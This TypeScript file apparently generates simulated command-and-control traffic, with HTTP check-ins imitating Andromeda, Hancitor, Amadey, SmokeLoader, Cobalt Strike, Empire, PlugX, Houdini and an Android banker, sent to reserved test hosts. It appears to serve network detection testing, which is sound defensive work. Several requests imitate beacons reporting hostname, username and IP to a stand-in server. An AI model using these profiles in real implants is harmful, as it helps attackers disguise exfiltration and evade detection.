import { httpRequest, type Program } from '../exchange.ts';

const formType = ['Content-Type', 'application/x-www-form-urlencoded'] as const;

/** Posts an RC4-encrypted, Base64-coded line that names the bot. */
export const andromeda: Program = (random) => {
  const server = 'druckdienst-west.test';
  return random.beat(0.6, 5, 12, 1).map((at) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST /b4x/image.php HTTP/1.1',
      [
        ['Host', server],
        ['User-Agent', 'Mozilla/4.0'],
        formType,
        ['Content-Length', '%length%'],
        ['Connection', 'close'],
      ],
      random.base64(62),
    ),
  }));
};

/** Asks a web service for the machine's outside address, then posts who it is to a forum that is none. */
export const hancitor: Program = (random) => {
  const userAgent = 'Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko';
  const server = 'thoverdat.test';
  const guid = random.text(19, '0123456789');
  const lookUp = httpRequest('GET / HTTP/1.1', [
    ['Accept', '*/*'],
    ['User-Agent', userAgent],
    ['Host', 'address.what-is-mine.example'],
    ['Cache-Control', 'no-cache'],
  ]);
  const reports = random.beat(2, 5, 12, 1).map((at) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST /8/forum.php HTTP/1.1',
      [
        ['Accept', '*/*'],
        formType,
        ['User-Agent', userAgent],
        ['Host', server],
        ['Content-Length', '%length%'],
        ['Cache-Control', 'no-cache'],
      ],
      `GUID=${guid}&BUILD=0104_bg55&INFO=WORK-PC @ WORK-PC\\user&EXT=&IP=192.0.2.77&TYPE=1&WIN=10.0(x64)`,
    ),
  }));
  return [{ at: 0.5, server: 'address.what-is-mine.example', port: 80, request: lookUp }, ...reports];
};

/** A form of two-letter fields, and no User-Agent. */
export const amadey: Program = (random) => {
  const server = '198.51.100.41';
  const id = random.text(12, '0123456789');
  return random.beat(1, 5, 12, 1).map((at) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST /8bmeVwqx/index.php HTTP/1.1',
      [formType, ['Host', server], ['Content-Length', '%length%'], ['Cache-Control', 'no-cache']],
      `id=${id}&vs=3.65&sd=5c3738&os=1&bi=1&ar=1&pc=WORK-PC&un=user&dm=&av=13&lv=0&og=1`,
    ),
  }));
};

/** The bot's answer to "where am I": each POST gives a random site below its own server as the Referer. */
export const smokeLoader: Program = (random) => {
  const server = 'hafenkran-77.test';
  return random.beat(1.2, 5, 12, 1).map((at) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      'POST / HTTP/1.1',
      [
        ['Connection', 'Keep-Alive'],
        formType,
        ['Accept', '*/*'],
        ['Referer', `http://${random.text(8 + random.below(5), 'abcdefghijklmnopqrstuvwxyz')}.example/`],
        ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko'],
        ['Content-Length', '%length%'],
        ['Host', server],
      ],
      random.bytes(120 + random.below(250)),
    ),
  }));
};

/** The default profile of the beacon: metadata in the Cookie of a GET, results in numbered POSTs. */
export const cobaltStrike: Program = (random) => {
  const server = '203.0.113.110';
  const userAgent = 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; MALC)';
  const metadata = random.base64(128);
  const id = random.text(5, '123456789');
  const paths = ['/visit.js', '/pixel.gif', '/visit.js', '/__utm.gif', '/visit.js'];
  const check = random.beat(0.7, paths.length, 11.2, 0.6).map((at, index) => ({
    at,
    server,
    port: 80,
    request: httpRequest(`GET ${paths[index]} HTTP/1.1`, [
      ['Accept', '*/*'],
      ['Cookie', metadata],
      ['User-Agent', userAgent],
      ['Host', server],
      ['Connection', 'Keep-Alive'],
      ['Cache-Control', 'no-cache'],
    ]),
  }));
  const result = {
    at: 57,
    server,
    port: 80,
    request: httpRequest(
      `POST /submit.php?id=${id} HTTP/1.1`,
      [
        ['Accept', '*/*'],
        ['Content-Type', 'application/octet-stream'],
        ['User-Agent', userAgent],
        ['Host', server],
        ['Content-Length', '%length%'],
        ['Connection', 'Keep-Alive'],
        ['Cache-Control', 'no-cache'],
      ],
      random.bytes(180),
    ),
  };
  return [...check, result];
};

/** Three paths of a made-up web application, taken in turn, a session in the Cookie. */
export const empire: Program = (random) => {
  const server = '198.51.100.222';
  const userAgent = 'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';
  const paths = ['/login/process.php', '/admin/get.php', '/news.php', '/admin/get.php', '/login/process.php'];
  return random.beat(1, paths.length, 12, 1).map((at, index) => ({
    at,
    server,
    port: 8080,
    request:
      index === 3
        ? httpRequest(
            `POST ${paths[index]} HTTP/1.1`,
            [
              ['Cookie', `session=${random.base64(20)}`],
              ['User-Agent', userAgent],
              ['Host', `${server}:8080`],
              ['Content-Length', '%length%'],
            ],
            random.bytes(210),
          )
        : httpRequest(`GET ${paths[index]} HTTP/1.1`, [
            ['Cookie', `session=${random.base64(20)}`],
            ['User-Agent', userAgent],
            ['Host', `${server}:8080`],
            ...(index === 0 ? [['Connection', 'Keep-Alive'] as const] : []),
          ]),
  }));
};

/** State in header fields of its own, a counter in the path. */
export const plugX: Program = (random) => {
  const server = 'ministerium-post.test';
  return random.beat(0.9, 7, 7.5, 1.5).map((at, index) => ({
    at,
    server,
    port: 8080,
    session: 'one connection',
    request: httpRequest(
      `POST /update?id=${(0x000f4c10 + index * 0x111).toString(16).padStart(8, '0')} HTTP/1.1`,
      [
        ['Accept', '*/*'],
        ['X-Session', '0'],
        ['X-Status', '0'],
        ['X-Size', '61456'],
        ['X-Sn', String(index + 1)],
        [
          'User-Agent',
          'Mozilla/4.0 (compatible; MSIE 9.0; Windows NT 6.1; SV1; .NET CLR 2.0.50727; .NET CLR 3.0.04506.648)',
        ],
        ['Host', `${server}:8080`],
        ['Content-Length', '0'],
        ['Connection', 'Keep-Alive'],
        ['Cache-Control', 'no-cache'],
      ],
    ),
  }));
};

/** A script that says who it runs for in its User-Agent, fields parted by a sign of its own. */
export const houdini: Program = (random) => {
  const server = 'lagerliste.example';
  const serial = random.hexadecimal(8).toUpperCase();
  return random.beat(0.5, 9, 6, 1).map((at) => ({
    at,
    server,
    port: 8000,
    request: httpRequest('POST /is-ready HTTP/1.1', [
      ['Accept', '*/*'],
      ['Accept-Language', 'en-us'],
      [
        'User-Agent',
        `${serial}<|>WORK-PC<|>user<|>Microsoft Windows 7 Professional <|>plus<|>nan-av<|>false - 21/11/2024`,
      ],
      ['Accept-Encoding', 'gzip, deflate'],
      ['Host', `${server}:8000`],
      ['Content-Length', '0'],
      ['Connection', 'Keep-Alive'],
      ['Cache-Control', 'no-cache'],
    ]),
  }));
};

/** A banking trojan of phones: reports installed programs and asks for orders through a form. */
export const phoneBanker: Program = (random) => {
  const server = 'paket-verfolgung.test';
  const id = random.hexadecimal(16);
  return random.beat(0.8, 5, 12, 1).map((at, index) => ({
    at,
    server,
    port: 80,
    request: httpRequest(
      `POST /o1o/a${index === 0 ? 3 : 4}.php HTTP/1.1`,
      [
        ['Content-Type', 'application/x-www-form-urlencoded; charset=UTF-8'],
        ['User-Agent', 'Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1.180610.011)'],
        ['Host', server],
        ['Connection', 'Keep-Alive'],
        ['Accept-Encoding', 'gzip'],
        ['Content-Length', '%length%'],
      ],
      `p=${encodeURIComponent(random.base64(75))}&id=${id}`,
    ),
  }));
};
